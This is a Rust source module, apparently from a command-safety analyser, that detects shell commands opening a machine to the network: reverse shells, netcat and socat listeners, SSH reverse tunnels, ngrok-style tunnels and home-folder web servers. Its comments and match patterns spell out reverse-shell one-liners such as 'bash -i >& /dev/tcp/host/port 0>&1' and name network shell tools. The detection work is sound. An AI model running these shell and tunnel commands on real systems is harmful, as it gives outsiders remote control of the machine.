//! Shells handed to the network, ports opened to others, tunnels.

use super::download::{is_shell, obeys_stdin};
use super::host::{host_of, is_local};
use super::send::{NETCAT, SSH};
use crate::effects::home;
use crate::effects::options::{Spec, Words};
use crate::effects::secrets::consumers;
use crate::effects::touch::absolute;
use crate::effects::{Certainty, Cx, Effect, EffectKind, Scope};
use crate::syntax::{CodeFact, Gap, Invocation, RedirectKind};

/// Effects of opening this machine to others. The target starts with `shell`, `port` or `tunnel`.
pub(super) fn effects(inv: &Invocation, cx: &Cx, out: &mut Vec<Effect>) {
    let Some((target, sure)) = found(inv, cx) else { return };
    let mut effect = cx.effect(EffectKind::NetListen, target, Scope::Unknown, inv.span);
    effect.certainty = sure;
    out.push(effect);
}

type Found = Option<(String, Certainty)>;

fn found(inv: &Invocation, cx: &Cx) -> Found {
    if inv.facts.iter().any(|fact| matches!(fact, CodeFact::ReverseShell)) {
        return Some(("shell handed to the network".to_owned(), Certainty::Certain));
    }
    if let Some(found) = shell_on_device(inv, cx) {
        return Some(found);
    }
    let name = inv.name()?;
    match name {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => netcat(inv),
        "socat" => socat(inv),
        "ssh" | "autossh" => ssh(inv),
        "ngrok" | "cloudflared" | "lt" | "localtunnel" | "bore" | "frpc" | "chisel" | "zrok" | "tailscale"
        | "pwncat" | "gost" | "devtunnel" | "localxpose" | "loclx" | "pagekite" | "expose" | "pinggy" | "code"
        | "ligolo" | "rathole" => tunnel(name, inv),
        "ztcp" => {
            let words = Words::of(&inv.args, &Spec::new(&["-d"]));
            let host = words.operand(0).unwrap_or("");
            (!words.has(&["-c", "-L"]) && !is_local(host)).then(|| (format!("shell at {host}"), Certainty::Likely))
        }
        "xterm" => {
            let words = Words::of(&inv.args, &Spec::long(&["-display", "-e", "-T"]));
            let host = words.last(&["-display"])?.split(':').next().unwrap_or("");
            (!is_local(host)).then(|| (format!("shell at {host}"), Certainty::Likely))
        }
        "python" | "python3" | "php" | "http-server" | "serve" | "miniserve" | "ruby" | "rclone" | "caddy" => {
            home_server(name, inv, cx)
        }
        _ if is_shell(name) || name == "busybox" => shell_into_network(inv, cx),
        _ => None,
    }
}

/// `bash -i >& /dev/tcp/host/port 0>&1`, and `exec 5<>/dev/tcp/host/port` beside a shell that uses it.
fn shell_on_device(inv: &Invocation, cx: &Cx) -> Found {
    let device = inv.redirects.iter().find_map(|redirect| {
        let text = redirect.target.text().into_owned();
        (text.starts_with("/dev/tcp/") || text.starts_with("/dev/udp/")).then_some((text, redirect.kind))
    });
    let (text, kind) = device?;
    let both = |wanted: &[RedirectKind]| {
        inv.redirects
            .iter()
            .any(|redirect| redirect.target.text().starts_with("/dev/tcp/") && wanted.contains(&redirect.kind))
    };
    if both(&[RedirectKind::Read]) && both(&[RedirectKind::Write, RedirectKind::Append]) {
        return Some((format!("shell at {}", text.trim_start_matches("/dev/")), Certainty::Likely));
    }
    let name = inv.name()?;
    let words = Words::of(&inv.args, &Spec::new(&["-o", "-O"]));
    let peer = text.trim_start_matches("/dev/").to_owned();
    if is_shell(name) && kind != RedirectKind::Read && (words.has(&["-i"]) || !words.has(&["-c"])) {
        return Some((format!("shell at {peer}"), Certainty::Certain));
    }
    if name == "exec" && kind == RedirectKind::ReadWrite {
        let host = peer.split('/').nth(1).unwrap_or("");
        let near = cx.line.invocations.iter().skip(cx.index + 1).take(64);
        let shell = near.clone().any(obeys_stdin)
            || cx.line.unresolved.iter().any(|gap| matches!(gap.what, Gap::Program | Gap::Code));
        if shell && !is_local(host) {
            return Some((format!("shell at {peer}"), Certainty::Likely));
        }
    }
    None
}

fn netcat(inv: &Invocation) -> Found {
    let words = Words::of(&inv.args, &NETCAT);
    let peer = words.operands.iter().map(|arg| arg.value.text().into_owned()).collect::<Vec<_>>().join(":");
    let runs = words.values(&["-e", "--exec", "--sh-exec"]).next().is_some()
        || words.values(&["-c"]).any(|value| {
            let text = value.text();
            text.contains("sh") || text.contains("cmd") || text.contains('/')
        });
    if runs {
        return Some((format!("shell at {peer}"), Certainty::Certain));
    }
    if words.has(&["-l", "--listen"]) {
        let port = words.last(&["-p"]).map_or(peer, str::to_owned);
        return Some((format!("port {port}"), Certainty::Likely));
    }
    None
}

fn socat(inv: &Invocation) -> Found {
    let upper: Vec<String> = inv.args.iter().map(|arg| arg.value.text().to_ascii_uppercase()).collect();
    let has = |heads: &[&str]| upper.iter().any(|word| heads.iter().any(|head| word.starts_with(head)));
    let network = has(&["TCP", "UDP", "OPENSSL", "SSL", "SOCKS", "SCTP", "VSOCK"]);
    if network && has(&["EXEC:", "SYSTEM:", "SHELL:"]) {
        return Some(("shell by socat".to_owned(), Certainty::Certain));
    }
    let listens = upper.iter().find(|word| word.contains("-LISTEN:") || word.contains("-L:"))?;
    let bound = listens.contains("BIND=127.") || listens.contains("BIND=LOCALHOST");
    (!bound && !listens.starts_with("UNIX"))
        .then(|| (format!("port {}", listens.split([':', ',']).nth(1).unwrap_or("")), Certainty::Likely))
}

fn ssh(inv: &Invocation) -> Found {
    let words = Words::of(&inv.args, &SSH);
    let host = words.operands.first().map(|arg| host_of(&arg.value.text())).unwrap_or_default();
    words.has(&["-R"]).then(|| (format!("tunnel from {host}"), Certainty::Likely))
}

fn tunnel(name: &str, inv: &Invocation) -> Found {
    let words = Words::of(&inv.args, &Spec::long(&["--config", "-config"]));
    if words.has(&["--version", "-v", "--help", "-h", "version"]) {
        return None;
    }
    let first = words.operand(0).unwrap_or("");
    let opens = match name {
        "ngrok" => matches!(first, "http" | "tcp" | "tls" | "start"),
        "cloudflared" => {
            matches!(first, "tunnel" | "access")
                && !matches!(words.operand(1), Some("list" | "info" | "login" | "create" | "delete" | "cleanup"))
        }
        "tailscale" => matches!(first, "funnel") && words.operand(1) != Some("status"),
        "code" => first == "tunnel",
        "bore" => first == "local",
        "chisel" => matches!(first, "client" | "server"),
        "devtunnel" => first == "host",
        "zrok" | "expose" => first == "share",
        _ => !words.operands.is_empty() || !words.options.is_empty(),
    };
    opens.then(|| (format!("tunnel by {name}"), Certainty::Likely))
}

/// `python -m http.server` and its like, where the folder is the home or above.
fn home_server(name: &str, inv: &Invocation, cx: &Cx) -> Found {
    const LOCAL: &[&str] = &["-b", "--bind", "-a", "-S", "--address", "--addr", "--listen", "-i", "--interfaces"];
    const FOLDER: &[&str] = &["-d", "--directory", "--root", "-t"];
    const VALUES: &[&str] = &[
        "-b",
        "--bind",
        "-a",
        "-S",
        "--address",
        "--addr",
        "--listen",
        "-i",
        "--interfaces",
        "-d",
        "--directory",
        "--root",
        "-t",
        "-m",
        "-p",
        "--port",
        "-l",
        "-c",
    ];
    let words = Words::of(&inv.args, &Spec::gnu(VALUES));
    let bound = |word: &str| {
        let host = word.rsplit_once(':').map_or(word, |(host, _)| host);
        is_local(host) && !matches!(host, "" | "::" | "0.0.0.0")
    };
    let serves = match name {
        "python" | "python3" => matches!(words.last(&["-m"]), Some("http.server" | "SimpleHTTPServer")),
        "php" => words.last(&["-S"]).is_some(),
        "ruby" => inv.words().flatten().any(|word| word == "httpd"),
        "rclone" => words.operand(0) == Some("serve"),
        "caddy" => words.operand(0) == Some("file-server"),
        _ => true,
    };
    if !serves || words.last(LOCAL).is_some_and(bound) {
        return None;
    }
    // Behind `-m` the words are the module's own.
    let named = words.values(FOLDER).last();
    let operand = match name {
        "ruby" | "http-server" | "serve" | "miniserve" => words.operands.last().map(|arg| &arg.value),
        "rclone" => words.operands.get(2).map(|arg| &arg.value),
        _ => None,
    };
    let operand = operand.filter(|value| !value.is("httpd"));
    let folder = named.or(operand).map_or_else(|| inv.cwd.text().into_owned(), |folder| absolute(folder, inv, cx));
    home::is_covered_by(&folder, cx.world).then(|| (format!("port serving {folder}"), Certainty::Possible))
}

/// `cat fifo | sh -i | nc host port`
fn shell_into_network(inv: &Invocation, cx: &Cx) -> Found {
    if !obeys_stdin(inv) {
        return None;
    }
    let network = |index: usize| {
        cx.line.invocations.get(index).is_some_and(|next| {
            matches!(next.name(), Some("nc" | "ncat" | "netcat" | "telnet" | "socat"))
                || (next.name() == Some("openssl") && next.words().flatten().any(|word| word == "s_client"))
        })
    };
    consumers(cx.index, cx).any(network).then(|| ("shell handed to the network".to_owned(), Certainty::Certain))
}
